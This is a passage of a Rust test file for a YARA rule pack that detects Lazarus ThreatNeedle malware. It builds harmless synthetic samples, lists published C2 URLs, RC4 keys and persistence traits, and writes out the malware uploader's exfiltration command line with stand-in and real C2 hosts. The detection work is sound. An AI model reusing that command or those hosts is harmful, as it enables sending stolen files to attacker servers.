@@ -1,0 +1,1267 @@
+//! The built-in rule pack (`signatures/rules/*.yar`), rule by rule: a synthetic sample carrying
+//! each rule's traits must be reported with that rule, and near misses (one byte changed, the
+//! traits in the wrong kind of file, a different URL path, a macro without a shortcut...) must
+//! not. The real binary scans a temp dir with the embedded pack, as in tests/scan.rs.
+//!
+//! No sample is malware: each is a small, well-formed file assembled here that only carries the
+//! published indicators. C2 URLs are kept defanged in this file and re-fanged at run time.
+
+mod util;
+
+use std::collections::BTreeSet;
+use std::path::Path;
+
+use serde_json::Value;
+use util::samples::{
+    self, PeSection, PeSpec, VbaCache, VbaModule, ZipEntry, ZipMethod, build_pe, build_zip,
+    doc_with_macros, docx_with_settings_rels, flat_opc_with_settings_rels, settings_rels_xml,
+};
+use util::{Host, INSTALLER_KEY, Run, needle, pe_with};
+
+/// The ThreatNeedle loader RC4 key (public, from the intel sheet).
+const LOADER_KEY: [u8; 16] = [
+    0x3D, 0x68, 0xD0, 0x0A, 0xB1, 0x0E, 0xC6, 0xAF, 0xDD, 0xEE, 0x18, 0x8E, 0xF4, 0xA1, 0xD6, 0x20,
+];
+
+/// The license-key-like argument of the published uploader command line.
+const LICENSE_KEY: &str = "S0RMM-50QQE-F65DN-DCPYN-5QEQA";
+
+/// The published C2 URLs, defanged exactly as in the intel sheet.
+const C2_URLS_DEFANGED: &[&str] = &[
+    "hxxp://forum.iron-maiden[.]ru/core/cache/index[.]php",
+    "hxxp://www.au-pair[.]org/admin/Newspaper[.]asp",
+    "hxxp://www.au-pair[.]org/admin/login[.]asp",
+    "hxxp://www.colasprint[.]com/_vti_log/upload[.]asp",
+    "hxxp://www.djasw.or[.]kr/sub/popup/images/upfiles[.]asp",
+    "hxxp://www.kwwa[.]org/popup/160307/popup_160308[.]asp",
+    "hxxp://www.kwwa[.]org/DR6001/FN6006LS[.]asp",
+    "hxxp://www.sanatoliacare[.]com/include/index[.]asp",
+    "hxxps://americanhotboats[.]com/forums/core/cache/index[.]php",
+    "hxxps://docentfx[.]com/wp-admin/includes/upload[.]php",
+    "hxxps://kannadagrahakarakoota[.]org/forums/admincp/upload[.]php",
+    "hxxps://polyboatowners[.]com/2010/images/BOTM/upload[.]php",
+    "hxxps://ryanmcbain[.]com/forum/core/cache/upload[.]php",
+    "hxxps://shinwonbook.co[.]kr/basket/pay/open[.]asp",
+    "hxxps://shinwonbook.co[.]kr/board/editor/upload[.]asp",
+    "hxxps://theforceawakenstoys[.]com/vBulletin/core/cache/upload[.]php",
+    "hxxps://www.automercado.co[.]cr/empleo/css/main[.]jsp",
+    "hxxps://www.curiofirenze[.]com/include/inc-site[.]asp",
+    "hxxps://www.digitaldowns[.]us/artman/exec/upload[.]php",
+    "hxxps://www.dronerc[.]it/forum/uploads/index[.]php",
+    "hxxps://www.dronerc[.]it/shop_testbr/Adapter/Adapter_Config[.]php",
+    "hxxps://www.edujikim[.]com/intro/blue/view[.]asp",
+    "hxxps://www.edujikim[.]com/pay/sample/INIstart[.]asp",
+    "hxxps://www.edujikim[.]com/smarteditor/img/upload[.]asp",
+    "hxxps://www.fabioluciani[.]com/ae/include/constant[.]asp",
+    "hxxps://www.fabioluciani[.]com/es/include/include[.]asp",
+    "hxxp://www.juvillage.co[.]kr/img/upload[.]asp",
+    "hxxps://www.lyzeum[.]com/board/bbs/bbs_read[.]asp",
+    "hxxps://www.lyzeum[.]com/images/board/upload[.]asp",
+    "hxxps://martiancartel[.]com/forum/customavatars/avatars[.]php",
+    "hxxps://www.polyboatowners[.]com/css/index[.]php",
+    "hxxps://www.sanlorenzoyacht[.]com/newsl/include/inc-map[.]asp",
+    "hxxps://www.raiestatesandbuilders[.]com/admin/installer/installer/index[.]php",
+    "hxxp://156.245.16[.]55/admin/admin[.]asp",
+    "hxxp://fredrikarnell[.]com/marocko2014/index[.]php",
+    "hxxp://roit.co[.]kr/xyz/mainpage/view[.]asp",
+    "hxxps://www.waterdoblog[.]com/uploads/index[.]asp",
+    "hxxp://www.kbcwainwrightchallenge.org[.]uk/connections/dbconn[.]asp",
+    "hxxps://prototypetrains[.]com:443/forums/core/cache/index[.]php",
+    "hxxps://newidealupvc[.]com:443/img/prettyPhoto/jquery.max[.]php",
+    "hxxps://mdim.in[.]ua:443/core/cache/index[.]php",
+    "hxxps://forum.snowreport[.]gr:443/cache/template/upload[.]php",
+    "hxxps://www.gonnelli[.]it/uploads/catalogo/thumbs/thumb[.]asp",
+    "hxxps://www.dellarocca[.]net/it/content/img/img[.]asp",
+    "hxxps://www.astedams[.]it/photos/image/image[.]asp",
+    "hxxps://www.geeks-board[.]com/blog/wp-content/uploads/2017/cache[.]php",
+    "hxxps://cloudarray[.]com/images/logo/videos/cache[.]jsp",
+];
+
+fn refang(url: &str) -> String {
+    url.replacen("hxxp", "http", 1).replace("[.]", ".")
+}
+
+// ---------------------------------------------------------------------------
+// Sample helpers
+
+/// NUL-terminated ASCII.
+fn ascii(text: &str) -> Vec<u8> {
+    let mut out = text.as_bytes().to_vec();
+    out.push(0);
+    out
+}
+
+/// NUL-terminated UTF-16LE, as Windows programs store wide strings.
+fn wide(text: &str) -> Vec<u8> {
+    let mut out: Vec<u8> = text.encode_utf16().flat_map(u16::to_le_bytes).collect();
+    out.extend_from_slice(&[0, 0]);
+    out
+}
+
+/// Strings laid out one after the other, as in a `.rdata` section.
+fn strings(parts: &[Vec<u8>]) -> Vec<u8> {
+    parts.concat()
+}
+
+/// A PE32+ executable with `code` in `.text`, `rdata` in `.rdata` and a real import table.
+fn pe(code: &[u8], rdata: &[u8], imports: Vec<(&'static str, Vec<&'static str>)>) -> Vec<u8> {
+    let mut spec = PeSpec::default();
+    if !code.is_empty() {
+        spec.sections[0].data = code.to_vec();
+    }
+    spec.sections.push(PeSection {
+        name: ".rdata",
+        data: rdata.to_vec(),
+        executable: false,
+    });
+    spec.imports = imports;
+    build_pe(&spec)
+}
+
+/// Code comparing the 16-bit config header at [rcx] with `magic`:
+/// `cmp word ptr [rcx], magic; jne +3; xor eax, eax; ret; mov eax, 1; ret`.
+fn header_check(magic: u16) -> Vec<u8> {
+    let [low, high] = magic.to_le_bytes();
+    vec![
+        0x66, 0x81, 0x39, low, high, // cmp word ptr [rcx], imm16
+        0x75, 0x03, // jne +3
+        0x31, 0xC0, // xor eax, eax
+        0xC3, // ret
+        0xB8, 0x01, 0x00, 0x00, 0x00, // mov eax, 1
+        0xC3, // ret
+    ]
+}
+
+/// Imports of a service installer.
+fn service_imports(wide_api: bool) -> Vec<(&'static str, Vec<&'static str>)> {
+    let functions = if wide_api {
+        vec!["OpenSCManagerW", "CreateServiceW", "StartServiceW"]
+    } else {
+        vec!["OpenSCManagerA", "CreateServiceA", "StartServiceA"]
+    };
+    vec![("ADVAPI32.dll", functions), ("KERNEL32.dll", vec!["Sleep"])]
+}
+
+// ---------------------------------------------------------------------------
+// Running the scan
+
+/// Runs `needle scan` with the embedded pack over the host.
+fn scan(host: &Host) -> Run {
+    let root = host.root().to_str().expect("temp dirs are UTF-8");
+    let run = needle(["scan", "--format", "jsonl", "-q", root]);
+    assert!(
+        run.code == 0 || run.code == 1,
+        "exit {}: {}",
+        run.code,
+        run.stderr
+    );
+    let summary = run.summary();
+    assert_eq!(summary["signatures"]["rule_errors"], 0, "{}", run.stderr);
+    assert_eq!(summary["errors"], 0, "{}", run.stdout);
+    run
+}
+
+/// The finding for the file at `relative` (exactly that path), if any.
+fn finding_for(run: &Run, relative: &str) -> Option<Value> {
+    let suffix = format!("/{relative}");
+    let found: Vec<Value> = run
+        .of_type("finding")
+        .into_iter()
+        .filter(|f| f["path"].as_str().is_some_and(|p| p.ends_with(&suffix)))
+        .collect();
+    assert!(found.len() <= 1, "several findings for {relative}");
+    found.into_iter().next()
+}
+
+/// Names and scores of the rules reported for the file at `relative` (empty: not flagged).
+fn rules_on(run: &Run, relative: &str) -> Vec<(String, i64)> {
+    finding_for(run, relative).map_or_else(Vec::new, |finding| {
+        finding["reasons"]
+            .as_array()
+            .expect("reasons is an array")
+            .iter()
+            .filter(|r| r["kind"] == "rule")
+            .map(|r| {
+                (
+                    r["id"].as_str().expect("id").to_string(),
+                    r["score"].as_i64().expect("score"),
+                )
+            })
+            .collect()
+    })
+}
+
+fn rule_names_on(run: &Run, relative: &str) -> Vec<String> {
+    rules_on(run, relative)
+        .into_iter()
+        .map(|(name, _)| name)
+        .collect()
+}
+
+#[track_caller]
+fn assert_fires(run: &Run, relative: &str, rule: &str) {
+    let names = rule_names_on(run, relative);
+    assert!(
+        names.iter().any(|n| n == rule),
+        "{rule} must fire on {relative}; rules reported: {names:?}\n{}",
+        run.stdout
+    );
+}
+
+#[track_caller]
+fn assert_silent(run: &Run, relative: &str, rule: &str) {
+    let names = rule_names_on(run, relative);
+    assert!(
+        !names.iter().any(|n| n == rule),
+        "{rule} must not fire on {relative}; rules reported: {names:?}"
+    );
+}
+
+/// The file must not be reported by any rule of the pack.
+#[track_caller]
+fn assert_no_rule(run: &Run, relative: &str) {
+    let names = rule_names_on(run, relative);
+    assert!(
+        names.is_empty(),
+        "no rule may fire on {relative}: {names:?}"
+    );
+}
+
+/// Writes the samples into a fresh host, scans it and returns both.
+fn scan_samples(samples: &[(&str, Vec<u8>)]) -> (Host, Run) {
+    let host = Host::new();
+    for (relative, data) in samples {
+        host.write(relative, data);
+    }
+    let run = scan(&host);
+    assert_eq!(
+        run.summary()["files_scanned"].as_u64(),
+        Some(samples.len() as u64),
+        "every sample is scanned"
+    );
+    (host, run)
+}
+
+// ---------------------------------------------------------------------------
+// One positive sample per rule. The coverage test below scans all of them at once and checks
+// that every rule of signatures/rules has an entry here, so a new rule without a test fails.
+
+struct Positive {
+    rule: &'static str,
+    score: i64,
+    path: &'static str,
+    data: Vec<u8>,
+}
+
+fn positive_samples() -> Vec<Positive> {
+    let uploader_rdata = strings(&[
+        ascii("POST"),
+        ascii("application/x-www-form-urlencoded"),
+        ascii("fr=%s&fp=%s"),
+    ]);
+    vec![
+        Positive {
+            rule: "ThreatNeedle_Installer_RC4_Key",
+            score: 85,
+            path: "ProgramData/Adobe/load.bin",
+            data: pe_with(&INSTALLER_KEY),
+        },
+        Positive {
+            rule: "ThreatNeedle_Loader_RC4_Key",
+            score: 85,
+            path: "Windows/system/loader.drv",
+            data: pe_with(&LOADER_KEY),
+        },
+        Positive {
+            rule: "ThreatNeedle_Installer_Marker_File",
+            score: 70,
+            path: "Temp/installer.exe",
+            data: pe_with(&wide(r"%SYSTEMROOT%\system32\bcdbootinfo.tlp")),
+        },
+        Positive {
+            rule: "ThreatNeedle_VNC_Uploader_Traits",
+            score: 80,
+            path: "Users/alice/AppData/Roaming/Comms/uploader.exe",
+            data: pe(&header_check(0x8406), &uploader_rdata, Vec::new()),
+        },
+        Positive {
+            rule: "ThreatNeedle_VNC_Uploader_Command_Line",
+            score: 75,
+            path: "Users/alice/AppData/Roaming/Comms/run.bat",
+            data: format!(
+                "@echo off\r\n\"%APPDATA%\\Comms\\Comms.dat\" {LICENSE_KEY} https://upload.example.test/u/thumb.asp %APPDATA%\\Comms\\cab59.tmp FL0509 15000\r\n"
+            )
+            .into_bytes(),
+        },
+        Positive {
+            rule: "ThreatNeedle_C2_URL",
+            score: 80,
+            path: "Users/alice/AppData/Roaming/Microsoft/config.dat",
+            data: wide(&refang(C2_URLS_DEFANGED[0])),
+        },
+        Positive {
+            rule: "ThreatNeedle_C2_Host_And_Path_PE",
+            score: 75,
+            path: "Users/alice/AppData/Local/Temp/ETS4659.tmp",
+            data: pe(
+                &[],
+                &strings(&[wide("docentfx.com"), wide("/wp-admin/includes/upload.php")]),
+                vec![("WININET.dll", vec!["InternetConnectW", "HttpOpenRequestW"])],
+            ),
+        },
+        Positive {
+            rule: "ThreatNeedle_Service_Sys_Payload",
+            score: 80,
+            path: "ProgramData/ntnser.dat",
+            data: pe(
+                &[],
+                &wide(r"%SystemRoot%\System32\WmdmPmSp.sys"),
+                service_imports(true),
+            ),
+        },
+        Positive {
+            rule: "ThreatNeedle_Netsvcs_Service_Name",
+            score: 65,
+            path: "ProgramData/svcinst.exe",
+            data: pe(
+                &[],
+                &strings(&[
+                    ascii(r"SOFTWARE\Microsoft\Windows NT\CurrentVersion\Svchost"),
+                    ascii("netsvcs"),
+                    ascii("Nwsapagent"),
+                ]),
+                service_imports(false),
+            ),
+        },
+        Positive {
+            rule: "ThreatNeedle_Registry_Config_Keys",
+            score: 75,
+            path: "Windows/System32/payload.sys",
+            data: pe(
+                &[],
+                &strings(&[
+                    wide(r"SOFTWARE\Microsoft\Windows\CurrentVersion\GameConfig"),
+                    wide("Description"),
+                ]),
+                vec![("ADVAPI32.dll", vec!["RegSetValueExW"])],
+            ),
+        },
+        Positive {
+            rule: "ThreatNeedle_Startup_Shortcut_Name",
+            score: 75,
+            path: "Users/alice/AppData/Roaming/Microsoft/backdoor.db",
+            data: pe_with(&wide(
+                r"%APPDATA%\Microsoft\Windows\Start Menu\Programs\Startup\OneDrives.lnk",
+            )),
+        },
+        Positive {
+            rule: "ThreatNeedle_Macro_Drops_Payload_And_Shortcut",
+            score: 75,
+            path: "Users/alice/Downloads/covid19_notice.doc",
+            data: doc_with_macros(
+                &dropper_macro(Dropper::ShortcutAndRun),
+                VbaCache::Identifiers,
+                "COVID-19: updated guidance from the medical centre",
+            ),
+        },
+        Positive {
+            rule: "ThreatNeedle_Office_Remote_Template_Stored",
+            score: 70,
+            path: "Users/alice/Downloads/Boeing_JD.docx",
+            data: docx_with_settings_rels(&remote_template_rels(), ZipMethod::Stored),
+        },
+        Positive {
+            rule: "ThreatNeedle_Office_Template_Rels_Compressed",
+            score: 40,
+            path: "Users/alice/Downloads/Boeing_AERO.docx",
+            data: docx_with_settings_rels(&remote_template_rels(), ZipMethod::Deflated),
+        },
+    ]
+}
+
+/// Rule names declared in signatures/rules/*.yar (`rule NAME` at the start of a line).
+fn declared_rules() -> BTreeSet<String> {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("signatures/rules");
+    let mut names = BTreeSet::new();
+    for entry in std::fs::read_dir(&dir).expect("signatures/rules exists") {
+        let path = entry.expect("dir entry").path();
+        if path.extension().and_then(|e| e.to_str()) != Some("yar") {
+            continue;
+        }
+        let text = std::fs::read_to_string(&path).expect("rule files are UTF-8");
+        for line in text.lines() {
+            let mut words = line.split_whitespace();
+            let first = words.next();
+            let first = match first {
+                Some("private" | "global") => words.next(),
+                other => other,
+            };
+            if first == Some("rule")
+                && let Some(name) = words.next()
+            {
+                let name: String = name
+                    .chars()
+                    .take_while(|c| c.is_ascii_alphanumeric() || *c == '_')
+                    .collect();
+                assert!(names.insert(name.clone()), "rule {name} declared twice");
+            }
+        }
+    }
+    names
+}
+
+#[test]
+fn every_rule_in_the_pack_has_a_positive_sample_that_it_detects() {
+    let declared = declared_rules();
+    assert!(declared.len() >= 3, "{declared:?}");
+    let positives = positive_samples();
+    let tested: BTreeSet<String> = positives.iter().map(|p| p.rule.to_string()).collect();
+    let untested: Vec<&String> = declared.difference(&tested).collect();
+    assert!(
+        untested.is_empty(),
+        "rules without a positive sample in tests/signatures.rs: {untested:?}"
+    );
+    let stale: Vec<&String> = tested.difference(&declared).collect();
+    assert!(
+        stale.is_empty(),
+        "samples for rules that no longer exist: {stale:?}"
+    );
+
+    let host = Host::new();
+    for positive in &positives {
+        host.write(positive.path, &positive.data);
+    }
+    let run = scan(&host);
+    assert_eq!(
+        run.summary()["signatures"]["rules"].as_u64(),
+        Some(declared.len() as u64),
+        "the embedded pack compiles every declared rule"
+    );
+    for positive in &positives {
+        let rules = rules_on(&run, positive.path);
+        assert!(
+            rules.contains(&(positive.rule.to_string(), positive.score)),
+            "{} (score {}) must fire on {}; reported: {rules:?}",
+            positive.rule,
+            positive.score,
+            positive.path
+        );
+        let finding = finding_for(&run, positive.path).expect("flagged");
+        let reason = finding["reasons"]
+            .as_array()
+            .expect("array")
+            .iter()
+            .find(|r| r["id"] == positive.rule)
+            .expect("the rule's reason")
+            .clone();
+        assert_eq!(reason["author"], "needle project", "{}", positive.rule);
+        assert_eq!(
+            reason["reference"], "https://securelist.com/lazarus-threatneedle/100803/",
+            "{}",
+            positive.rule
+        );
+        assert!(
+            reason["description"].as_str().is_some_and(|d| d.len() > 20),
+            "{} has a description",
+            positive.rule
+        );
+    }
+}
+
+#[test]
+fn every_rule_carries_the_required_meta() {
+    let dir = Path::new(env!("CARGO_MANIFEST_DIR")).join("signatures/rules");
+    for entry in std::fs::read_dir(&dir).expect("signatures/rules exists") {
+        let path = entry.expect("dir entry").path();
+        if path.extension().and_then(|e| e.to_str()) != Some("yar") {
+            continue;
+        }
+        let text = std::fs::read_to_string(&path).expect("UTF-8");
+        // Split at rule headers; each block's meta section must name every field.
+        for block in format!("\n{text}").split("\nrule ").skip(1) {
+            let name = block.split_whitespace().next().expect("rule name");
+            let meta = block
+                .split("strings:")
+                .next()
+                .expect("text before strings")
+                .split("condition:")
+                .next()
+                .expect("meta");
+            for field in [
+                "description = \"",
+                "reference = \"https://securelist.com/lazarus-threatneedle/100803/\"",
+                "author = \"needle project\"",
+                "date = \"2026-11-27\"",
+                "score = ",
+                "mitre_attack = \"T",
+                "keys_on = \"",
+            ] {
+                assert!(
+                    meta.contains(field),
+                    "{name} in {} lacks meta {field}",
+                    path.display()
+                );
+            }
+        }
+    }
+}
+
+// ---------------------------------------------------------------------------
+// RC4 keys and the installer marker (the three original rules)
+
+#[test]
+fn rc4_keys_fire_only_as_whole_keys_inside_pe_files() {
+    let mut installer_near = INSTALLER_KEY;
+    installer_near[7] ^= 0x01;
+    let mut loader_near = LOADER_KEY;
+    loader_near[0] ^= 0x80;
+    let (_host, run) = scan_samples(&[
+        ("a/installer.exe", pe_with(&INSTALLER_KEY)),
+        ("a/loader.dll", pe_with(&LOADER_KEY)),
+        ("b/installer_near.exe", pe_with(&installer_near)),
+        ("b/loader_near.dll", pe_with(&loader_near)),
+        ("b/installer_key.bin", INSTALLER_KEY.to_vec()),
+        ("b/loader_key.bin", LOADER_KEY.to_vec()),
+        ("b/half_key.exe", pe_with(&LOADER_KEY[..15])),
+    ]);
+    assert_fires(&run, "a/installer.exe", "ThreatNeedle_Installer_RC4_Key");
+    assert_silent(&run, "a/installer.exe", "ThreatNeedle_Loader_RC4_Key");
+    assert_fires(&run, "a/loader.dll", "ThreatNeedle_Loader_RC4_Key");
+    assert_silent(&run, "a/loader.dll", "ThreatNeedle_Installer_RC4_Key");
+    for near in [
+        "b/installer_near.exe",
+        "b/loader_near.dll",
+        "b/installer_key.bin",
+        "b/loader_key.bin",
+        "b/half_key.exe",
+    ] {
+        assert_no_rule(&run, near);
+    }
+}
+
+#[test]
+fn installer_marker_name_fires_in_pe_files_only() {
+    let (_host, run) = scan_samples(&[
+        ("a/wide.exe", pe_with(&wide(r"\system32\bcdbootinfo.tlp"))),
+        ("a/ascii_upper.exe", pe_with(&ascii("BCDBOOTINFO.TLP"))),
+        (
+            "b/other_ext.exe",
+            pe_with(&wide(r"\system32\bcdbootinfo.tmp")),
+        ),
+        (
+            "b/notes.txt",
+            b"the installer writes bcdbootinfo.tlp".to_vec(),
+        ),
+    ]);
+    assert_fires(&run, "a/wide.exe", "ThreatNeedle_Installer_Marker_File");
+    assert_fires(
+        &run,
+        "a/ascii_upper.exe",
+        "ThreatNeedle_Installer_Marker_File",
+    );
+    assert_no_rule(&run, "b/other_ext.exe");
+    assert_no_rule(&run, "b/notes.txt");
+}
+
+// ---------------------------------------------------------------------------
+// Trojanised VNC uploader
+
+#[test]
+fn vnc_uploader_needs_the_post_fields_and_a_second_trait() {
+    const RULE: &str = "ThreatNeedle_VNC_Uploader_Traits";
+    let urlencoded = ascii("fr=%s&fp=%s");
+    let multipart = strings(&[
+        wide("Content-Disposition: form-data; name=\"fp\""),
+        wide("Content-Disposition: form-data; name=\"fr\"; filename=\"%s\""),
+    ]);
+    let key = ascii(LICENSE_KEY);
+    let (_host, run) = scan_samples(&[
+        // fields + config header compare
+        (
+            "a/cmp.exe",
+            pe(&header_check(0x8406), &urlencoded, Vec::new()),
+        ),
+        // multipart fields (wide) + license key
+        (
+            "a/key.exe",
+            pe(&[], &strings(&[multipart.clone(), key.clone()]), Vec::new()),
+        ),
+        // fields in the other order, 32-bit PE-style compare `cmp eax, 0x8406`
+        (
+            "a/eax.exe",
+            pe(
+                &[0x3D, 0x06, 0x84, 0x00, 0x00, 0xC3],
+                &ascii("fp=%s&fr=%s"),
+                Vec::new(),
+            ),
+        ),
+        // near misses
+        ("b/fields_only.exe", pe(&[], &urlencoded, Vec::new())),
+        (
+            "b/cmp_and_key.exe",
+            pe(&header_check(0x8406), &key, Vec::new()),
+        ),
+        (
+            "b/other_magic.exe",
+            pe(&header_check(0x8407), &urlencoded, Vec::new()),
+        ),
+        (
+            "b/one_field.exe",
+            pe(&header_check(0x8406), &ascii("fr=%s&fx=%s"), Vec::new()),
+        ),
+        (
+            "b/half_multipart.exe",
+            pe(
+                &[],
+                &strings(&[wide("name=\"fr\""), key.clone()]),
+                Vec::new(),
+            ),
+        ),
+        (
+            "b/not_a_pe.bin",
+            strings(&[header_check(0x8406), urlencoded.clone(), key.clone()]),
+        ),
+    ]);
+    for positive in ["a/cmp.exe", "a/key.exe", "a/eax.exe"] {
+        assert_fires(&run, positive, RULE);
+    }
+    for near in [
+        "b/fields_only.exe",
+        "b/cmp_and_key.exe",
+        "b/other_magic.exe",
+        "b/one_field.exe",
+        "b/half_multipart.exe",
+        "b/not_a_pe.bin",
+    ] {
+        assert_no_rule(&run, near);
+    }
+}
+
+#[test]
+fn vnc_uploader_command_line_needs_the_whole_argument_order() {
+    const RULE: &str = "ThreatNeedle_VNC_Uploader_Command_Line";
+    let published = format!(
+        r"%APPDATA%\Comms\Comms.dat {LICENSE_KEY} {} %APPDATA%\Comms\cab59.tmp FL0509 15000",
+        refang("hxxps://www.gonnelli[.]it/uploads/catalogo/thumbs/thumb[.]asp")
+    );
+    let (_host, run) = scan_samples(&[
+        ("a/run.bat", published.clone().into_bytes()),
+        // UTF-16 arguments, as in a shortcut or a scheduled task, with another key and host.
+        (
+            "a/task.bin",
+            // Assembled at run time so this file does not carry a whole command line itself.
+            wide(&format!(
+                r#"{} "https://cdn.example.test/a/b.php" C:\Users\Public\x.tmp AB12 300"#,
+                ["ABCDE", "12345", "FGHIJ", "67890", "KLMNO"].join("-")
+            )),
+        ),
+        // near misses: a product key in a licence note, and the key + URL without the rest
+        (
+            "b/license.txt",
+            format!(
+                "Product key: {LICENSE_KEY}\r\nActivate at https://activation.example.test/\r\n"
+            )
+            .into_bytes(),
+        ),
+        (
+            "b/partial.bat",
+            format!("Comms.dat {LICENSE_KEY} https://cdn.example.test/a/b.php\r\n").into_bytes(),
+        ),
+        (
+            "b/lowercase_key.bat",
+            published
+                .replace(LICENSE_KEY, "s0rmm-50qqe-f65dn-dcpyn-5qeqa")
+                .replace(
+                    &refang("hxxps://www.gonnelli[.]it/uploads/catalogo/thumbs/thumb[.]asp"),
+                    "https://cdn.example.test/a/b.php",
+                )
+                .into_bytes(),
+        ),
+    ]);
+    assert_fires(&run, "a/run.bat", RULE);
+    assert_fires(&run, "a/run.bat", "ThreatNeedle_C2_URL");
+    assert_fires(&run, "a/task.bin", RULE);
+    assert_no_rule(&run, "b/license.txt");
+    assert_no_rule(&run, "b/partial.bat");
+    assert_no_rule(&run, "b/lowercase_key.bat");
+}
+
+// ---------------------------------------------------------------------------
+// C2 URLs
+
+#[test]
+fn every_published_c2_url_is_detected_in_any_file_ascii_or_wide() {
+    let mut samples = Vec::new();
+    let mut names = Vec::new();
+    for (i, defanged) in C2_URLS_DEFANGED.iter().enumerate() {
+        let url = refang(defanged);
+        assert!(!url.contains("hxxp") && !url.contains("[.]"), "{url}");
+        // Vary the encoding and the case; every fourth URL loses its scheme.
+        let text = match i % 4 {
+            0 => url.clone(),
+            1 => url.to_uppercase(),
+            2 => url.split_once("://").expect("scheme").1.to_string(),
+            _ => format!("cfg={url};retry=3"),
+        };
+        let data = if i % 2 == 0 {
+            wide(&text)
+        } else {
+            format!("junk\n{text}\n").into_bytes()
+        };
+        names.push(format!("a/url{i:02}.dat"));
+        samples.push((names[i].clone(), data));
+    }
+    let borrowed: Vec<(&str, Vec<u8>)> = samples
+        .iter()
+        .map(|(n, d)| (n.as_str(), d.clone()))
+        .collect();
+    let (_host, run) = scan_samples(&borrowed);
+    for name in &names {
+        assert_fires(&run, name, "ThreatNeedle_C2_URL");
+    }
+}
+
+#[test]
+fn c2_url_near_misses_are_not_detected() {
+    let url = refang("hxxps://docentfx[.]com/wp-admin/includes/upload[.]php");
+    let yara_source = format!(
+        "rule Copy_Of_A_C2_Rule\n{{\n    strings:\n        $a = \"{}\"\n    condition:\n        $a\n}}\n",
+        url.split_once("://").expect("scheme").1
+    );
+    let (_host, run) = scan_samples(&[
+        ("a/config.txt", format!("server={url}\n").into_bytes()),
+        // Same host, another path.
+        (
+            "b/other_path.txt",
+            b"server=https://docentfx.com/wp-admin/includes/update.php\n".to_vec(),
+        ),
+        // Same path, another host.
+        (
+            "b/other_host.txt",
+            b"server=https://docentfx.net/wp-admin/includes/upload.php\n".to_vec(),
+        ),
+        // A longer host that only ends like the C2 host.
+        (
+            "b/longer_host.txt",
+            b"server=https://mydocentfx.com/wp-admin/includes/upload.php\n".to_vec(),
+        ),
+        // The defanged form of a report or the intel sheet.
+        (
+            "b/report.md",
+            format!("C2: `{}`\n", C2_URLS_DEFANGED[9]).into_bytes(),
+        ),
+        // A YARA rule source listing the URL (another scanner's signatures).
+        ("b/c2.yar", yara_source.into_bytes()),
+    ]);
+    assert_fires(&run, "a/config.txt", "ThreatNeedle_C2_URL");
+    for near in [
+        "b/other_path.txt",
+        "b/other_host.txt",
+        "b/longer_host.txt",
+        "b/report.md",
+        "b/c2.yar",
+    ] {
+        assert_no_rule(&run, near);
+    }
+}
+
+#[test]
+fn c2_host_and_path_stored_apart_fire_in_pe_files_only() {
+    const RULE: &str = "ThreatNeedle_C2_Host_And_Path_PE";
+    let wininet = || vec![("WININET.dll", vec!["InternetConnectW", "HttpOpenRequestW"])];
+    let (_host, run) = scan_samples(&[
+        (
+            "a/apart.exe",
+            pe(
+                &[],
+                &strings(&[ascii("www.edujikim.com"), ascii("/pay/sample/INIstart.asp")]),
+                wininet(),
+            ),
+        ),
+        (
+            "a/ip.exe",
+            pe(
+                &[],
+                &strings(&[wide("156.245.16.55"), wide("/admin/admin.asp")]),
+                wininet(),
+            ),
+        ),
+        // The whole URL: reported by the URL rule, not twice.
+        (
+            "a/whole.exe",
+            pe(
+                &[],
+                &wide(&refang(
+                    "hxxps://www.edujikim[.]com/pay/sample/INIstart[.]asp",
+                )),
+                wininet(),
+            ),
+        ),
+        // Host of one URL with the path of another host's URL.
+        (
+            "b/mixed.exe",
+            pe(
+                &[],
+                &strings(&[ascii("www.edujikim.com"), ascii("/core/cache/index.php")]),
+                wininet(),
+            ),
+        ),
+        // The IP address as a prefix of a longer one.
+        (
+            "b/longer_ip.exe",
+            pe(
+                &[],
+                &strings(&[wide("156.245.16.551"), wide("/admin/admin.asp")]),
+                wininet(),
+            ),
+        ),
+        // The pair outside a PE.
+        (
+            "b/apart.txt",
+            b"host=www.edujikim.com\npath=/pay/sample/INIstart.asp\n".to_vec(),
+        ),
+    ]);
+    assert_fires(&run, "a/apart.exe", RULE);
+    assert_fires(&run, "a/ip.exe", RULE);
+    assert_eq!(
+        rule_names_on(&run, "a/whole.exe"),
+        ["ThreatNeedle_C2_URL"],
+        "a whole URL is reported once"
+    );
+    assert_no_rule(&run, "b/mixed.exe");
+    assert_no_rule(&run, "b/longer_ip.exe");
+    assert_no_rule(&run, "b/apart.txt");
+}
+
+// ---------------------------------------------------------------------------
+// Services, registry configuration, Startup shortcut
+
+#[test]
+fn service_payload_names_need_the_sys_form_and_the_service_api() {
+    const STRONG: &str = "ThreatNeedle_Service_Sys_Payload";
+    const WEAK: &str = "ThreatNeedle_Netsvcs_Service_Name";
+    let (_host, run) = scan_samples(&[
+        (
+            "a/wide_api.exe",
+            pe(
+                &[],
+                &wide(r"%SystemRoot%\System32\WmdmPmSp.sys"),
+                service_imports(true),
+            ),
+        ),
+        // Dynamically resolved ANSI API names, netsvcs group instead of StartService.
+        (
+            "a/dynamic.exe",
+            pe(
+                &[],
+                &strings(&[
+                    ascii("CreateServiceA"),
+                    ascii("netsvcs"),
+                    ascii(r"C:\Windows\System32\pcaudit.sys"),
+                ]),
+                vec![("KERNEL32.dll", vec!["GetProcAddress", "LoadLibraryA"])],
+            ),
+        ),
+        // Also named in the netsvcs group: only the strong rule is reported.
+        (
+            "a/both.exe",
+            pe(
+                &[],
+                &strings(&[ascii("netsvcs"), ascii("helpsvc"), ascii("helpsvc.sys")]),
+                service_imports(false),
+            ),
+        ),
+        // near misses: the genuine .dll form, no CreateService, not a PE
+        (
+            "b/genuine_dll.exe",
+            pe(
+                &[],
+                &wide(r"%SystemRoot%\System32\WmdmPmSp.dll"),
+                service_imports(true),
+            ),
+        ),
+        (
+            "b/no_create.exe",
+            pe(
+                &[],
+                &wide(r"%SystemRoot%\System32\WmdmPmSp.sys"),
+                vec![("ADVAPI32.dll", vec!["OpenSCManagerW", "StartServiceW"])],
+            ),
+        ),
+        (
+            "b/create_only.exe",
+            pe(
+                &[],
+                &wide(r"%SystemRoot%\System32\WmdmPmSp.sys"),
+                vec![("ADVAPI32.dll", vec!["CreateServiceW"])],
+            ),
+        ),
+        (
+            "b/script.txt",
+            b"OpenSCManagerW CreateServiceW StartServiceW WmdmPmSp.sys netsvcs".to_vec(),
+        ),
+    ]);
+    assert_fires(&run, "a/wide_api.exe", STRONG);
